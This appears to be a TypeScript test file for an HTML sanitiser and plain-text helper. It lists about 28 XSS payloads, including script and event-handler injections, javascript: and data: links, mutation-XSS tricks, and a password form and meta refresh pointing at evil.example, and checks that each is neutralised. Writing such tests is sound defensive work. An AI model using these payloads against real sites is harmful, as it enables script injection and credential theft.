import { joinSentences, plainText, sanitise as sanitiseOf } from './sanitise.ts';

const origin = 'https://portal.example';
const sanitise = (html: string) => sanitiseOf(html, origin);

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="\\\\evil.example/">a</a>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p onclick="alert(1)">a</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p id="location">a</p><p id="__proto__">b</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="https://ok.example" target="_blank" onmouseover="alert(1)">a</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<xss autofocus tabindex=1 onfocus=alert(1)></xss>',
];

describe('sanitise', () => {
  it.each(attacks)('leaves nothing that acts in %s', (attack) => {
    const html = sanitise(attack);
    expect(html).not.toMatch(
      /<(script|img|svg|math|iframe|object|embed|form|input|meta|base|link|style|template|details)/i,
    );
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(/href="\s*(?!https?:|mailto:|#|\/(?!\/|\\))[^"]/i);
    expect(html).not.toMatch(/style=|target=|id="(?!text-)/i);
  });

  it('keeps the structure of a text', () => {
    const html =
      '<h2>A</h2><p>b <strong>c</strong></p><ol start="3"><li>d</li></ol><table><tbody><tr><td>e</td></tr></tbody></table>';
    expect(sanitise(html)).toBe(html);
  });

  it('makes a second page title a section title', () => {
    expect(sanitise('<h1>A</h1>')).toBe('<h2>A</h2>');
  });

  it('keeps links inside the text together with their targets', () => {
    expect(sanitise('<h2 id="scope">A</h2><a href="#scope">B</a>')).toBe(
      '<h2 id="text-scope">A</h2><a href="#text-scope">B</a>',
    );
  });

  it.each([
    '/api/v1/logout',
    `${origin}/api/v1/logout`,
    'http://portal.example/api/v1/logout',
    './api/v1/logout',
    '/.//evil.example',
  ])('takes the address from a link to %s', (address) =>
    expect(sanitise(`<a href="${address}">a</a>`)).toBe('<a>a</a>'),
  );

  it('keeps links to pages of the portal, to other sites and to mail', () => {
    const addresses = ['/home#text-a', 'https://docs.example/a', 'http://docs.example/a', 'mailto:a@docs.example'];
    const html = sanitise(addresses.map((address) => `<a href="${address}">a</a>`).join(''));
    expect([...html.matchAll(/href="([^"]*)"/g)].map(([, address]) => address)).toEqual(addresses);
  });

  it('gives foreign links no power over the page', () => {
    expect(sanitise('<a href="https://a.example">a</a>')).toContain('rel="noopener noreferrer nofollow"');
  });

  it('changes nothing when applied again', () => {
    for (const attack of attacks) expect(sanitise(sanitise(attack))).toBe(sanitise(attack));
  });
});

describe('plainText', () => {
  it('reads paragraphs as words on one line', () => {
    expect(plainText('<p>A &amp; B</p><p>C<br>D</p>')).toBe('A & B C D');
  });

  it('decodes each character reference once', () => {
    expect(plainText('<p>&lt;b&gt; &quot;it&apos;s&quot;&nbsp;&#39;&hellip; &amp;lt;</p>')).toBe(`<b> "it's" '… &lt;`);
  });

  it('puts no space between two Chinese sentences', () => {
    expect(plainText('<p>队列全程公开。</p><p>名额有限：</p><ul><li>每队 5 人；</li><li>GPU 共享。</li></ul>')).toBe(
      '队列全程公开。名额有限：每队 5 人；GPU 共享。',
    );
    expect(joinSentences('问题真实。', '四条赛道。')).toBe('问题真实。四条赛道。');
    expect(joinSentences('Real problems.', 'Four tracks.')).toBe('Real problems. Four tracks.');
  });
});
